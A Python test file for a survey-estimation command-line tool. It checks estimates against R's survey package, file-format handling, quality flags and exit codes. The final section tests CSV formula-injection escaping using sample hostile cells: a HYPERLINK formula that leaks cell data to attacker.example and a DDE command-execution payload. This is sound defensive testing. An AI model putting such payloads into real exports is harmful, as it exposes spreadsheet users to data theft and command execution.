"""`sinmiedo estimate`: numbers against R survey for each file format and design step, and exit codes."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pyreadstat
import pytest
from click.testing import CliRunner, Result

from api.cli import estimate as estimate_module
from api.cli.estimate import estimate

GOLDEN = Path(__file__).resolve().parents[1] / "golden"
CLI_GOLDEN = GOLDEN / "cli"
ESTIMATOR_GOLDEN = GOLDEN / "estimators"
CLI_CASES = json.loads((CLI_GOLDEN / "cases.json").read_text())["cases"]
ESTIMATOR_CASES = {case["id"]: case for case in json.loads((ESTIMATOR_GOLDEN / "cases.json").read_text())["cases"]}
FIELDS = ("estimate", "se", "ci_low", "ci_high", "cv", "deff", "df", "n", "weighted_n", "flag")


def invoke(*args: object) -> Result:
    return CliRunner().invoke(estimate, [str(arg) for arg in args])


def rows_of(result: Result) -> list[dict]:
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def assert_rows_match(rows: list[dict], expected: list[dict]) -> None:
    assert len(rows) == len(expected)
    for row, reference in zip(rows, expected, strict=True):
        for key, value in reference.items():
            if isinstance(value, int | float) and not isinstance(value, bool):
                assert row[key] == pytest.approx(value, rel=1e-6), key
            else:
                assert str(row[key]) == str(value), key


def cli_args(case: dict) -> list[str]:
    return [str(CLI_GOLDEN / arg) if arg.endswith((".csv", ".json")) else arg for arg in case["args"]]


# --- numbers against R ---------------------------------------------------------------------------


@pytest.mark.parametrize("case", CLI_CASES, ids=lambda case: case["id"])
def test_design_steps_match_r(case):
    assert_rows_match(rows_of(invoke(*cli_args(case))), case["rows"])


def estimator_case_args(case: dict) -> list[str]:
    """The CLI call equivalent to one of W1's estimator golden cases (tests/golden/estimators)."""
    design, call = case["design"], case["args"]
    args = [ESTIMATOR_GOLDEN / f"{design['data']}.csv", "--weight", design["weight"]]
    if design["strata"]:
        args += ["--strata", design["strata"]]
    if design["clusters"]:
        args += ["--psu", ",".join(design["clusters"])]
    if design["fpc"]:
        fpc = design["fpc"]
        args += ["--fpc", ",".join(fpc) if isinstance(fpc, list) else fpc]
    args += ["--lonely-psu", design["lonely_psu"]]
    if case["estimator"] == "ratio":
        args += ["--ratio", f"{call['variable']}:{call['denominator']}"]
    elif case["estimator"] == "quantile":
        args += ["--quantile", call["variable"], "--quantiles", ",".join(str(q) for q in call["quantiles"])]
    else:
        args += [f"--{case['estimator']}", call["variable"]]
    if call["by"]:
        args += ["--by", ",".join(call["by"])]
    for column, value in (call["domain"] or {}).items():
        args += ["--domain", f"{column}={value}"]
    if case["estimator"] != "quantile":
        args += ["--ci", call["ci"]]
    return [str(arg) for arg in args]


def find_case(design: str, estimator: str, *, ci: str = "wald", by: bool = False, domain: bool = False,
              error: bool = False) -> dict:
    """The first of W1's golden cases with these traits (their numbering changes when cases are added)."""
    for case in ESTIMATOR_CASES.values():
        args = case["args"]
        if (
            case["id"].split("/")[0] == design
            and case["estimator"] == estimator
            and args["ci"] == ci
            and bool(args["by"]) == by
            and (args["domain"] is not None) == domain
            and ("error" in case) == error
        ):
            return case
    raise LookupError(f"no golden case {design}/{estimator} ci={ci} by={by} domain={domain}")


SELECTED = {
    "strat mean": find_case("strat", "mean"),
    "strat mean by": find_case("strat", "mean", by=True),
    "strat total by in domain": find_case("strat", "total", by=True, domain=True),
    "strat proportion by logit": find_case("strat", "proportion", ci="logit", by=True),
    "strat proportion by beta": find_case("strat", "proportion", ci="beta", by=True),
    "strat proportion in domain logit": find_case("strat", "proportion", ci="logit", domain=True),
    "strat ratio by": find_case("strat", "ratio", by=True),
    "strat quantile by": find_case("strat", "quantile", by=True),
    "two-stage cluster mean by": find_case("clus2", "mean", by=True),
}


@pytest.mark.parametrize("name", SELECTED)
def test_estimator_cases_match_r_through_the_command(name):
    case = SELECTED[name]
    rows = rows_of(invoke(*estimator_case_args(case)))
    expected = [{key: value for key, value in row.items() if value is not None} for row in case["rows"]]
    assert_rows_match(rows, expected)


def test_rows_carry_the_design_fields_in_order():
    rows = rows_of(invoke(*estimator_case_args(SELECTED["strat mean by"])))
    assert list(rows[0]) == ["stype", "level", *FIELDS]


# --- file formats ---------------------------------------------------------------------------------

STRAT = pd.read_csv(ESTIMATOR_GOLDEN / "apistrat.csv")[["stype", "pw", "fpc", "awards"]]
AWARDS_BY_STYPE = SELECTED["strat proportion by logit"]
STYPE_CODES = {"E": 1, "H": 2, "M": 3}


def write_strat(tmp_path: Path, suffix: str) -> Path:
    path = tmp_path / f"apistrat{suffix}"
    if suffix == ".parquet":
        STRAT.to_parquet(path, index=False)
    elif suffix == ".dta":
        pyreadstat.write_dta(STRAT, str(path))
    else:
        # SPSS keeps stype as labelled codes: the command must show the labels, as R does.
        coded = STRAT.assign(stype=STRAT["stype"].map(STYPE_CODES))
        labels = {code: name for name, code in STYPE_CODES.items()}
        pyreadstat.write_sav(coded, str(path), variable_value_labels={"stype": labels})
    return path


@pytest.mark.parametrize("suffix", [".parquet", ".dta", ".sav"])
def test_each_file_format_gives_the_r_numbers(tmp_path, suffix):
    path = write_strat(tmp_path, suffix)
    result = invoke(path, "--weight", "pw", "--strata", "stype", "--fpc", "fpc", "--proportion", "awards",
                    "--by", "stype", "--ci", "logit")
    assert_rows_match(rows_of(result), AWARDS_BY_STYPE["rows"])


def test_csv_output_has_a_header_and_the_same_numbers():
    result = invoke(*estimator_case_args(AWARDS_BY_STYPE), "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == ["stype", "level", *FIELDS]
    for row, reference in zip(rows, AWARDS_BY_STYPE["rows"], strict=True):
        assert float(row["se"]) == pytest.approx(reference["se"], rel=1e-6)
        assert int(row["n"]) == reference["n"]


# --- quality flags --------------------------------------------------------------------------------


def test_quality_profile_flags_every_row():
    rows = rows_of(invoke(*estimator_case_args(AWARDS_BY_STYPE), "--quality", "ine_chile"))
    # 100 elementary schools, 50 middle and 50 high: only the 50-school strata fall below n = 60.
    assert {row["stype"]: row["flag"] for row in rows if row["level"] == "Yes"} == {
        "E": "reliable",
        "H": "unreliable:min_base",
        "M": "unreliable:min_base",
    }


def test_suppressed_cells_are_redacted_in_the_output():
    # apiclus1 holds 144 elementary, 14 high and 25 middle schools: vawg needs 50.
    result = invoke(CLI_GOLDEN / "apiclus1.csv", "--weight", "pw", "--psu", "dnum", "--fpc", "fpc",
                    "--proportion", "awards", "--by", "stype", "--quality", "vawg")
    rows = rows_of(result)
    suppressed = {row["stype"] for row in rows if row["flag"] == "suppressed:min_base"}
    assert suppressed == {"H", "M"}
    for row in rows:
        redacted = row["stype"] in suppressed
        assert (row["estimate"] is None, row["se"] is None, row["ci_low"] is None) == (redacted,) * 3
        assert row["n"] is not None


def test_quality_profile_can_be_a_json_file(tmp_path):
    profile = tmp_path / "strict.json"
    profile.write_text(json.dumps({"name": "strict", "rules": [{"rule": "minimum_base", "min_n": 101}]}))
    rows = rows_of(invoke(*estimator_case_args(AWARDS_BY_STYPE), "--quality", profile))
    assert {row["flag"] for row in rows} == {"suppressed:min_base"}


# --- bad input exits 2 with the problem on stderr; other failures exit 1 ----------------------------


def assert_bad_input(result: Result, *fragments: str) -> None:
    assert result.exit_code == 2, result.output
    assert result.stdout == ""
    for fragment in fragments:
        assert fragment in result.stderr


def strat_args(*extra: object) -> list[object]:
    return [ESTIMATOR_GOLDEN / "apistrat.csv", "--weight", "pw", "--strata", "stype", "--fpc", "fpc", *extra]


def test_unknown_column_is_named():
    assert_bad_input(invoke(*strat_args("--mean", "api000")), "unknown_column", "'api000'", "'api00'")


def test_non_numeric_weight_names_column_and_row(tmp_path):
    data = STRAT.assign(pw=STRAT["pw"].astype(str))
    data.loc[3, "pw"] = "heavy"
    path = tmp_path / "bad_weight.csv"
    data.to_csv(path, index=False)
    result = invoke(path, "--weight", "pw", "--strata", "stype", "--proportion", "awards")
    assert_bad_input(result, "non_numeric_column", "'pw'", "row 3", "'heavy'")


def test_lonely_psu_under_fail_is_bad_input():
    case = find_case("lonely_fail", "total", domain=True, error=True)
    assert "only one PSU" in case["error"]  # R refuses it too
    result = invoke(*estimator_case_args(case))
    assert_bad_input(result, "X")


def test_raking_that_does_not_converge_is_bad_input(tmp_path):
    # No respondent is both "b" and "d": the margins are met only as the (a, c) weights go to 0,
    # which IPF approaches too slowly for R's 10 sweeps (R warns "Raking did not converge").
    cells = [("a", "c")] * 4 + [("a", "d")] * 4 + [("b", "c")] * 4
    data = pd.DataFrame({"psu": range(1, 13), "x": [x for x, _ in cells], "y": [y for _, y in cells],
                         "w": 10.0, "v": range(12)})
    data_path, margins_path = tmp_path / "sparse.csv", tmp_path / "margins.json"
    data.to_csv(data_path, index=False)
    margins_path.write_text(json.dumps({"x": {"a": 1e6, "b": 1e6}, "y": {"c": 1e6, "d": 1e6}}))
    result = invoke(data_path, "--weight", "w", "--psu", "psu", "--mean", "v", "--rake", margins_path)
    assert_bad_input(result, "raking_not_converged")


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        ("{not json", "invalid_margins"),
        ('["stype"]', "invalid_margins"),
        ('{"stype": {"E": "many"}}', "'stype'"),
        ('{"stype": []}', "'stype'"),
    ],
)
def test_malformed_margins_are_bad_input(tmp_path, content, fragment):
    path = tmp_path / "margins.json"
    path.write_text(content)
    result = invoke(CLI_GOLDEN / "apiclus1.csv", "--weight", "pw", "--psu", "dnum", "--mean", "api00", "--rake", path)
    assert_bad_input(result, fragment)


def test_unsupported_file_type_is_bad_input(tmp_path):
    path = tmp_path / "data.xlsx"
    path.write_bytes(b"x")
    assert_bad_input(invoke(path, "--weight", "pw", "--mean", "api00"), "unsupported_format")


def test_missing_data_file_is_bad_input(tmp_path):
    assert_bad_input(invoke(tmp_path / "absent.csv", "--weight", "pw", "--mean", "api00"), "file_not_found")


def test_domain_value_matches_numbers_however_they_are_written(tmp_path):
    data = pd.read_csv(CLI_GOLDEN / "apiclus1.csv").assign(zone=lambda frame: (frame["dnum"] % 2 + 1).astype(float))
    path = tmp_path / "zoned.csv"
    data.to_csv(path, index=False)
    base = [path, "--weight", "pw", "--psu", "dnum", "--mean", "api00"]
    as_integer = rows_of(invoke(*base, "--domain", "zone=1"))
    as_float = rows_of(invoke(*base, "--domain", "zone=1.0"))
    assert as_integer == as_float
    assert as_integer[0]["n"] == int((data["zone"] == 1).sum())


def test_unknown_quality_profile_is_bad_input():
    assert_bad_input(invoke(*strat_args("--mean", "api00", "--quality", "who")), "unknown_quality_profile", "'who'")


@pytest.mark.parametrize(
    "extra",
    [
        ["--mean", "api00", "--total", "api00"],
        [],
        ["--ratio", "api00"],
        ["--quantile", "api00", "--quantiles", "0.5,1.5"],
        ["--mean", "api00", "--domain", "stype"],
    ],
)
def test_malformed_requests_are_usage_errors(extra):
    result = invoke(*strat_args(*extra))
    assert result.exit_code == 2, result.output
    assert result.stdout == ""
    assert "Error" in result.stderr


def test_unexpected_failure_exits_1(monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(estimate_module, "estimate_rows", broken)
    result = invoke(*strat_args("--mean", "api00"))
    assert result.exit_code == 1
    assert "disk on fire" in result.stderr


def test_bootstrap_replicates_are_reproducible_with_a_seed():
    args = ["--mean", "api00", "--replicates", "bootstrap", "--replicate-count", "50"]
    first = rows_of(invoke(*strat_args(*args, "--seed", "7")))
    again = rows_of(invoke(*strat_args(*args, "--seed", "7")))
    other = rows_of(invoke(*strat_args(*args, "--seed", "8")))
    assert first == again
    assert first[0]["se"] != other[0]["se"]
    assert first[0]["estimate"] == pytest.approx(SELECTED["strat mean"]["rows"][0]["estimate"], rel=1e-9)


def test_help_lists_every_option():
    result = CliRunner().invoke(estimate, ["--help"])
    assert result.exit_code == 0
    for option in ("--weight", "--strata", "--psu", "--fpc", "--lonely-psu", "--mean", "--total", "--proportion",
                   "--ratio", "--quantile", "--by", "--domain", "--ci", "--level", "--rake", "--poststratify",
                   "--replicates", "--replicate-count", "--seed", "--quality", "--format"):
        assert option in result.output


# --- CSV injection ---------------------------------------------------------------------------------

HOSTILE_CELL = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


def test_csv_output_escapes_formulas_in_domain_levels_and_column_names(tmp_path):
    path = tmp_path / "hostile.csv"
    by = "=cmd|' /C calc'!A0"
    pd.DataFrame({"w": [1.0, 2.0, 1.5, 1.0], by: [HOSTILE_CELL, HOSTILE_CELL, "@SUM(1)", "@SUM(1)"],
                  "y": [1, 2, 3, 4]}).to_csv(path, index=False)
    result = invoke(path, "--weight", "w", "--mean", "y", "--by", by, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0][0] == "'" + by
    assert sorted(row[0] for row in rows[1:]) == ["'" + HOSTILE_CELL, "'@SUM(1)"]
